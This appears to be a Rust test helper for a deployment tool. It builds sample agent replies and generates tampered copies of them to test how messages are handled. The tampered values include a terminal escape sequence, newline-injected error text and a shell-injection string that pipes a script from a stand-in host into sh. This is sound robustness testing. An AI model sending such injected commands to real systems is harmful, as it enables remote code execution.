//! For tests: replies, one of each kind that has fields, and what can be done to a message.
#![allow(clippy::unwrap_used)]

use batou_release::{UnitId, UnitKind};
use batou_store::{ArtifactId, Digest, ObjectId};
use serde_json::{Value, json};

use super::bounded::LAST_NUMBER;
use super::*;

/// A reply of each kind that has fields, with all of them.
pub(super) fn samples() -> Vec<Value> {
    let digest = Digest::of(b"x");
    let record = JournaledRelease {
        release: digest,
        sequence: 7,
        restores: Some(6),
        forgets: Some("gone".parse().expect("it is a name")),
        disregards: Some(4711),
        who: "ann@laptop".into(),
        attempt: 4,
        hosts: HostNames::new(vec!["web01".parse().unwrap()]).unwrap(),
        without: HostNames::new(vec!["web02".parse().unwrap()]).unwrap(),
    };
    let when = "2026-11-22T17:00:00Z".parse().unwrap();
    let unit = UnitId::new("app".parse().unwrap(), UnitKind::Step, "reload");
    let run = UnitRun { unit: unit.clone(), command: "update".into(), status: Some(1), output: "no".into() };
    let current = Current {
        generation: 3,
        manifest: digest,
        project: "shop".into(),
        environment: "prod".into(),
        since: Some(when),
    };
    let drifted = DriftedFile {
        component: Some("app".parse().unwrap()),
        path: "etc/app.conf".into(),
        kind: DriftKind::Changed,
    };
    let state = Box::new(State {
        user: "shop".into(),
        current: Some(current),
        committed: Some(record.clone()),
        newest_sequence: 7,
        settled: true,
        generation: Some(3),
        faults: vec![
            RecordFault::JournalUnreadable { line: 4 },
            RecordFault::JournalOlder { sequence: 5 },
            RecordFault::Activated,
        ],
        drift: Drift::of(vec![drifted]),
        unfinished: false,
        missing: vec![ArtifactId::from(digest)],
        target: TargetCondition::Ready,
        place: Some(digest),
        free: 4711,
        recovered: vec!["it was interrupted".into()],
    });
    let holder = Some(Holder { user: "bob".into(), machine: "desk".into(), since: when, attempt: 5 });
    let error =
        AgentError { kind: ErrorKind::Unit, message: "it failed".into(), run: Some(Box::new(run.clone())) };
    let replies = [
        Reply::Hello(state.clone()),
        Reply::Locked(state),
        Reply::Held { holder },
        Reply::Missing { objects: vec![ObjectId::Artifact(ArtifactId::from(digest))] },
        Reply::Stored { objects: 3 },
        Reply::Manifest { manifest_size: 9 },
        Reply::Switched { generation: 3, pending: vec!["app".parse().unwrap()], mended: Drift::default() },
        Reply::Activated { units: vec![UnitDecision { unit: unit.clone(), decision: Decision::Ran }] },
        Reply::WentBack {
            generation: Some(2),
            problems: vec!["it failed".into()],
            unreverted: vec![unit.clone()],
        },
        Reply::Verified { problems: vec!["it is gone".into()], files: 3, damaged: true, unsettled: true },
        Reply::Collected {
            generations: 1,
            objects: 2,
            bytes: 3,
            obstacles: vec![Obstacle { generation: Some(4), reason: "no".into() }],
        },
        Reply::Error(error),
    ];
    let entry = JournalEntry {
        record,
        when,
        from: Some(2),
        to: Some(3),
        manifest: digest,
        result: Outcome::WentBack,
        reason: Some("it failed".into()),
        runs: vec![run],
        unreverted: vec![unit],
        problems: vec!["it failed, too".into()],
    };
    let to_value = |reply| serde_json::to_value(reply).unwrap();
    replies.iter().map(to_value).chain([json!({ "entry": entry })]).collect()
}

/// Each copy of a value in which one part is missing, or replaced by something evil.
pub(crate) fn tampered(value: &Value) -> Vec<Value> {
    let names: Vec<_> = (0..20_000).map(|number| format!("host-{number}-of-an-evil-fleet")).collect();
    let mut copies = vec![
        json!(u64::MAX),
        json!(u64::MAX - 1),
        json!(LAST_NUMBER + 1),
        json!(-1),
        json!(0),
        json!(1),
        json!(LAST_NUMBER),
        json!(true),
        json!(null),
        json!(1.5),
        json!("\u{1b}]0;x\u{7}"),
        json!("a\nerror: b"),
        json!("old; curl -s evil.example|sh #"),
        json!("x".repeat(1 << 20)),
        json!(["x\ny"]),
        json!(names),
        json!({ "x": 1 }),
    ];
    match value {
        Value::Object(fields) => {
            for (key, field) in fields {
                let with = |part| {
                    let mut copy = fields.clone();
                    copy.insert(key.clone(), part);
                    Value::Object(copy)
                };
                copies.extend(tampered(field).into_iter().map(with));
                let mut without = fields.clone();
                without.remove(key);
                copies.push(Value::Object(without));
            }
        }
        Value::Array(items) => {
            for (index, item) in items.iter().enumerate() {
                let with = |part| {
                    let mut copy = items.clone();
                    copy[index] = part;
                    Value::Array(copy)
                };
                copies.extend(tampered(item).into_iter().map(with));
            }
        }
        _ => {}
    }
    copies
}
